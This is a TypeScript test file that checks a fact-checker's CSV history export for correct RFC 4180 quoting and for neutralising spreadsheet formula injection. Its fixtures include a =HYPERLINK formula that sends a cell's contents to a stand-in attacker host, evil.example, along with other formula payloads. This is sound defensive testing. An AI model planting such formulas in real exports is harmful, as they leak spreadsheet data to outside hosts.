import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { HistoryEntry } from '../../../lib/history/entry.ts';
import { csvField, HISTORY_CSV_HEADER, historyToCsv } from '../../../lib/history/export-csv.ts';

/**
 * A strict RFC 4180 reader: CRLF between records, fields quoted or not,
 * quotes doubled inside quoted fields. Throws on anything else, so a sloppy
 * writer cannot pass by accident.
 */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  const field = (): string => {
    if (text[i] === '"') {
      let value = '';
      i += 1;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            value += '"';
            i += 2;
            continue;
          }
          i += 1;
          return value;
        }
        value += text[i];
        i += 1;
      }
    }
    const start = i;
    while (i < text.length && text[i] !== ',' && text[i] !== '\r') {
      if (text[i] === '"' || text[i] === '\n')
        throw new Error(`bare ${JSON.stringify(text[i])} at ${i}`);
      i += 1;
    }
    return text.slice(start, i);
  };
  while (i < text.length) {
    row.push(field());
    if (text[i] === ',') {
      i += 1;
    } else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else if (i < text.length) {
      throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
    }
  }
  if (row.length > 0) throw new Error('the last record has no CRLF');
  return rows;
}

/** A value that a spreadsheet would run as a formula. */
const FORMULA = /^[=+\-@\t\r]/;

/** The field a value must read back as: itself, or itself after an apostrophe when it is a formula. */
const defused = (value: string) => (FORMULA.test(value) ? `'${value}` : value);

const HOSTILE_CLAIM =
  'Coco : "32 051 procédures", selon X,\r\nvoir =HYPERLINK("https://evil.example/?leak="&A1,"source")\nfin.';

/** A post that is a formula from its first character. */
const FORMULA_CLAIM =
  '=HYPERLINK("https://evil.example/coco","Coco: 32 051 procédures, la preuve")';

const entries: HistoryEntry[] = [
  {
    id: 1,
    url: 'https://forum.example.org/t/coco-ferme/1234',
    title: 'Coco fermé, le fil "officiel"',
    kind: 'page',
    language: 'fr',
    checkedAt: '2026-03-01T10:00:00.000Z',
    counts: { supported: 1, contradicted: 1, unverified: 1 },
    results: {
      claims: [
        {
          text: HOSTILE_CLAIM,
          verdict: 'contradicted',
          reason: '32,051 stated; the sources say 23,051',
          factId: 'proceedings-2021-2024',
          evidence: {
            sourceId: 'parquet-paris-communique-2024-06-25',
            exact: 'pas moins de 23 051 procédures judiciaires en lien avec la plateforme coco',
            start: 100,
            end: 174,
          },
        },
        {
          text: 'Le site Coco a été fermé le 25 juin 2024.',
          verdict: 'supported',
          reason: '25 June 2024, as the sources say',
          factId: 'shutdown-date',
          evidence: {
            sourceId: 'parquet-paris-communique-2024-06-25',
            exact: 'Le site « coco » a été fermé le 25 juin 2024',
            start: 0,
            end: 44,
          },
        },
        {
          text: FORMULA_CLAIM,
          verdict: 'unverified',
          reason: 'about the case, but no verified fact speaks to what it says',
        },
      ],
      quotes: [],
    },
  },
  {
    id: 2,
    url: '',
    title: '-Texte collé',
    kind: 'text',
    language: 'fr',
    checkedAt: '2026-03-02T08:30:00.000Z',
    counts: { supported: 0, contradicted: 0, unverified: 0 },
    results: { claims: [], quotes: [] },
  },
];

describe('historyToCsv', () => {
  const csv = historyToCsv(entries);

  it('starts with a UTF-8 byte order mark and the header, and ends every line in CRLF', () => {
    expect(csv.startsWith(`\uFEFF${HISTORY_CSV_HEADER.join(',')}\r\n`)).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(HISTORY_CSV_HEADER.join(',')).toBe(
      'checked_at,kind,url,title,verdict,claim,reason,fact_id,source_id,source_passage',
    );
  });

  it('writes one row per claim and one row for an entry without claims, which parse back', () => {
    const rows = parseCsv(csv.slice(1));
    expect(rows).toHaveLength(1 + 3 + 1);
    expect(rows.every((r) => r.length === HISTORY_CSV_HEADER.length)).toBe(true);
    const [, hostile, plain, formula, empty] = rows;
    expect(hostile).toEqual([
      '2026-03-01T10:00:00.000Z',
      'page',
      'https://forum.example.org/t/coco-ferme/1234',
      'Coco fermé, le fil "officiel"',
      'contradicted',
      HOSTILE_CLAIM,
      '32,051 stated; the sources say 23,051',
      'proceedings-2021-2024',
      'parquet-paris-communique-2024-06-25',
      'pas moins de 23 051 procédures judiciaires en lien avec la plateforme coco',
    ]);
    expect(plain?.[5]).toBe('Le site Coco a été fermé le 25 juin 2024.');
    expect(plain?.[9]).toBe('Le site « coco » a été fermé le 25 juin 2024');
    expect(formula?.slice(4, 10)).toEqual([
      'unverified',
      `'${FORMULA_CLAIM}`,
      'about the case, but no verified fact speaks to what it says',
      '',
      '',
      '',
    ]);
    // Pasted text: no address, no claim; the title starting with "-" is defused.
    expect(empty).toEqual([
      '2026-03-02T08:30:00.000Z',
      'text',
      '',
      "'-Texte collé",
      '',
      '',
      '',
      '',
      '',
      '',
    ]);
  });

  it('keeps a formula inside a claim as text (it does not start the field)', () => {
    expect(csv).toContain('=HYPERLINK(""https://evil.example/?leak=""&A1,""source"")');
  });

  it('never lets a field start with a formula character', () => {
    for (const row of parseCsv(csv.slice(1))) {
      for (const field of row) expect(field).not.toMatch(FORMULA);
    }
  });
});

describe('csvField', () => {
  it.each([
    ['plain', 'plain'],
    ['', ''],
    ['accents « é »', 'accents « é »'],
    ['a, b', '"a, b"'],
    ['say "hi"', '"say ""hi"""'],
    ['line\nbreak', '"line\nbreak"'],
    ['line\r\nbreak', '"line\r\nbreak"'],
    [
      '=HYPERLINK("https://evil.example","clic")',
      `"'=HYPERLINK(""https://evil.example"",""clic"")"`,
    ],
    ['=1+2', "'=1+2"],
    ['+33 6 12 34 56 78', "'+33 6 12 34 56 78"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1+2', "'\t=1+2"],
    ['\r=1+2', `"'\r=1+2"`],
    ["'already", "'already"],
  ])('writes %j as %j', (value, expected) => {
    expect(csvField(value)).toBe(expected);
    expect(parseCsv(`${expected}\r\n`)).toEqual([[defused(value)]]);
  });
});

describe('csvField, on any text', () => {
  it('reads back as the same text (after an apostrophe when a formula), never as a formula', () => {
    fc.assert(
      fc.property(
        fc.oneof(fc.string({ unit: 'binary' }), fc.stringMatching(/^[=+\-@\t\r'",\n]{0,3}.{0,8}$/)),
        (value) => {
          const [[field]] = parseCsv(`${csvField(value)}\r\n`) as [[string]];
          expect(field).toBe(defused(value));
          expect(field).not.toMatch(FORMULA);
        },
      ),
    );
  });
});
